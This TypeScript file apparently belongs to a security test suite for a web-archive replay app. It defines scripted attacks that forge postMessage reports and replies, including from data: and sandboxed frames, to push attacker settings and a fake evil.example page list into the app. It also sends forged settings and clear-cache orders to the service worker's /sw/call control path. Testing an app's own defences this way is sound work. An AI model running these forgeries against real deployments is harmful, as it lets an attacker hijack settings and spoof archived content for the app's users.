import { attackerSettings } from './attacks-host.ts'
import type { Env, Technique } from './page-kit.ts'

/** Reports the app might act on, naming places outside this archive (message shapes of src/messages/). */
const forgedReports = (env: Env): string => JSON.stringify([
  { type: 'navigated', page: env.benign, title: 'forged' },
  { type: 'navigated', page: '/app/settings' },
  { type: 'navigated', page: '/elsewhere/20200101000000/http://evil.example/' },
  { type: 'page', page: env.benign, url: 'http://www.iana.org/', title: 'forged', datetime: '20140126200624' },
  { type: 'page', page: '/elsewhere/20200101000000/http://evil.example/', url: 'http://evil.example/', title: 'forged', datetime: '20200101000000' },
  { type: 'ready' },
  { type: 'settings-wanted' }
])

/** Replies to requests the app may have open: the old relay's ids count from 1, a call's id is a UUID. */
const forgedReplies = (env: Env): string => `(() => {
  const S = ${attackerSettings(env)}
  const out = []
  for (let id = 1; id <= 40; id++) {
    out.push({ type: 'worker', message: { type: 'settings', id, settings: S } })
    out.push({ type: 'fetched', id, status: 200, contentType: 'application/json', body: '{"pages":[{"url":"http://evil.example/","first":"20200101000000","last":"20200101000000","count":1}]}', headers: { 'memento-datetime': 'Wed, 01 Jan 2020 00:00:00 GMT' } })
  }
  for (const id of ['1', '2', 'h1', '00000000-0000-4000-8000-000000000000']) {
    out.push({ iparoCall: id, final: true, reply: { type: 'settings', settings: S, fromApp: true } })
    out.push({ iparoCall: id, final: true, reply: { type: 'saved', pages: [${JSON.stringify(env.benign)}] } })
  }
  return out
})()`

/** A forged order: the envelope of src/messages/worker-call.ts with the attacker's settings. */
const envelope = (env: Env, id: string, call = '{ type: \'settings\' }'): string =>
  `JSON.stringify({ id: ${JSON.stringify(id)}, call: ${call}, settings: ${attackerSettings(env)} })`
const callPath = (env: Env, id: string, call?: string): string => `('/sw/call?c=' + encodeURIComponent(${envelope(env, id, call)}))`

/** Forged messages to the app, and forged orders to the worker's control path. */
export const appAttacks: Technique[] = [
  {
    id: 'forge-reports',
    what: 'navigated/page/ready/settings-wanted reports posted to the app naming another archive, #/app/settings and a made-up archive: from the page and from a data: frame',
    script: env => `
const msgs = ${forgedReports(env)}
await step('top.postMessage from the page', () => { for (const m of msgs) top.postMessage(m, '*'); return msgs.length })
await step('parent.postMessage from the page', () => { for (const m of msgs) parent.postMessage(Object.assign({}, m, { type: m.type === 'page' ? 'replayed-page' : m.type }), '*'); return msgs.length })
await step('from a data: frame (origin null)', () => { const f = document.createElement('iframe'); realm().Element.prototype.setAttribute.call(f, 'src', 'data:text/html,' + encodeURIComponent('<script>for (const m of ' + JSON.stringify(msgs) + ') top.postMessage(m, "*")</scr' + 'ipt>')); document.body.append(f); return loaded(f) })`
  },
  {
    id: 'forge-replies',
    what: 'replies the app may wait for (old relay ids 1–40, worker-call replies with guessed ids): attacker settings, a fake page list, fake saved pages',
    script: env => `
const msgs = ${forgedReplies(env)}
await step('posted to top, 10 rounds', async () => { for (let r = 0; r < 10; r++) { for (const m of msgs) top.postMessage(m, '*'); await new Promise(ok => setTimeout(ok, 100)) } return msgs.length * 10 })
await step('from a sandboxed frame (origin null)', () => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; realm().Element.prototype.setAttribute.call(f, 'srcdoc', '<script>for (const m of ' + JSON.stringify(msgs) + ') top.postMessage(m, "*")</scr' + 'ipt>'); document.body.append(f); return loaded(f) })`
  },
  {
    id: 'sw-call',
    what: 'forged orders on the worker\'s control path /sw/call (settings to the outside, clear-cache): frames from the page (its referrer, none, origin), a form, fetch, a frame of the host page',
    script: env => `
const provoke = (n) => realm().fetch('/nosuch-' + n + '-' + Date.now() + '/20200101000000/http://x.example/').then(r => r.status)
for (const policy of ['', 'no-referrer', 'origin', 'unsafe-url']) {
  await step('frame, referrer ' + (policy || 'default'), () => { const f = document.createElement('iframe'); if (policy) f.referrerPolicy = policy; realm().Element.prototype.setAttribute.call(f, 'src', ${callPath(env, 'f')}); document.body.append(f); return loaded(f) }, 2000)
  await step('after it: a name lookup', () => provoke(policy || 'default'))
}
await step('form GET into a frame', () => { const f = document.createElement('iframe'); f.name = 'callsink'; document.body.append(f); const form = document.createElement('form'); form.method = 'get'; form.target = 'callsink'; realm().Element.prototype.setAttribute.call(form, 'action', '/sw/call'); const i = document.createElement('input'); i.name = 'c'; i.value = ${envelope(env, 'form')}; form.append(i); document.body.append(form); const p = loaded(f); realm().HTMLFormElement.prototype.submit.call(form); return p }, 2000)
await step('fetch', () => fetch(${callPath(env, 'fetch')}).then(r => r.status + ' ' + r.url.slice(0, 80)))
await step('fresh realm fetch', () => realm().fetch(${callPath(env, 'realm')}).then(r => r.status))
await step('frame made in the host page', () => { const f = parent.document.createElement('iframe'); f.src = ${callPath(env, 'host')}; parent.document.body.append(f); return loaded(f) }, 2000)
await step('clear-cache from the host page', () => { const f = parent.document.createElement('iframe'); f.src = ${callPath(env, 'clear', '{ type: \'clear-cache\' }')}; parent.document.body.append(f); return loaded(f) }, 2000)
await step('after them: a name lookup', () => provoke('host'))`
  }
]
